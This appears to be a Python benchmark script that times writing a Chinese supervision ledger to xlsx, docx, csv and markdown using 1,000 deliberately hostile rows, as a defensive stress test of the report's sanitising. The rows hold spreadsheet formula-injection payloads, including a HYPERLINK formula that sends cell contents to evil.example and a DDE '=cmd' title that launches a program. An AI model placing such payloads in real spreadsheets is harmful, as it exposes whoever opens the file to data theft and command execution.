"""The 督办台账 with 1,000 hostile notes: how long each format takes to write and how large the file is.

Run: `python -m bench.report [--rows N]` (part of `make bench`). Every row
carries what a hostile member or a careless paste puts into a note, a task and
a title — a formula (`=HYPERLINK(…)`, `+SUM`, `@`), control characters PDF
text carries (\\x0b, \\x1b, \\x07, a form feed), and every tenth note longer
than an .xlsx cell holds — so the figures are those of the slowest path the
report takes: every cell made inert, cleaned or cut. Each format is written
three times; the best time is reported, with the file's size and, from one
more writing, the peak memory Python allocated (tracemalloc).
"""

from __future__ import annotations

import argparse
import time
import tracemalloc
from datetime import date, timedelta

from bot.ledger import render
from reminders.ledger import Latest, LedgerRow

DAY = date(2026, 12, 7)
FORMATS = ("xlsx", "docx", "csv", "md")
HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")', "+SUM(1,2)", "@其他单位", "-1+1",
           "已完成\x0b80%\x1b[31m，见附件\x07", "推进中\x0c第二阶段\x00")
LONG = "超长说明" * 9_000  # 36,000 characters: past the 32,767 an .xlsx cell holds


def hostile_rows(n: int) -> list[LedgerRow]:
    """`n` ledger rows, each with a hostile task, title and latest note."""
    rows = []
    for i in range(n):
        note = LONG if i % 10 == 9 else f"{HOSTILE[i % len(HOSTILE)]}（第{i}次报告）"
        due = DAY + timedelta(days=i - n // 2)
        rows.append(LedgerRow(
            doc_id=f"evil-{i % 5}", doc_title=f"=cmd|' /C calc'!A{i % 5}", number=i + 1,
            task=f"{HOSTILE[(i + 1) % len(HOSTILE)]}任务{i}", lead="市生态环境局", others=("@市交通局",),
            deadline_text=f"{due.year}年{due.month}月底", due=due, days_left=(due - DAY).days,
            status="已逾期" if due < DAY else "未到期", latest=Latest(note, "市生态环境局", DAY, False),
            reminders_sent=i % 3))
    return rows


def measure(rows: list[LedgerRow], fmt: str, rounds: int = 3) -> tuple[float, int, int]:
    """The best of `rounds` times to write the report in `fmt`, its size in bytes, and the peak bytes allocated
    (in one more round: tracing allocations slows the writing it measures)."""
    best, size = float("inf"), 0
    for _ in range(rounds):
        started = time.perf_counter()
        size = len(render(rows, fmt, DAY))
        best = min(best, time.perf_counter() - started)
    tracemalloc.start()
    render(rows, fmt, DAY)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return best, size, peak


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m bench.report")
    parser.add_argument("--rows", type=int, default=1000)
    args = parser.parse_args(argv)
    rows = hostile_rows(args.rows)
    print("| format | rows | time (s) | size (kB) | peak allocated (MB) |\n|---|---|---|---|---|")
    for fmt in FORMATS:
        seconds, size, peak = measure(rows, fmt)
        print(f"| {fmt} | {len(rows)} | {seconds:.2f} | {size / 1024:.0f} | {peak / 2**20:.0f} |")


if __name__ == "__main__":
    main()
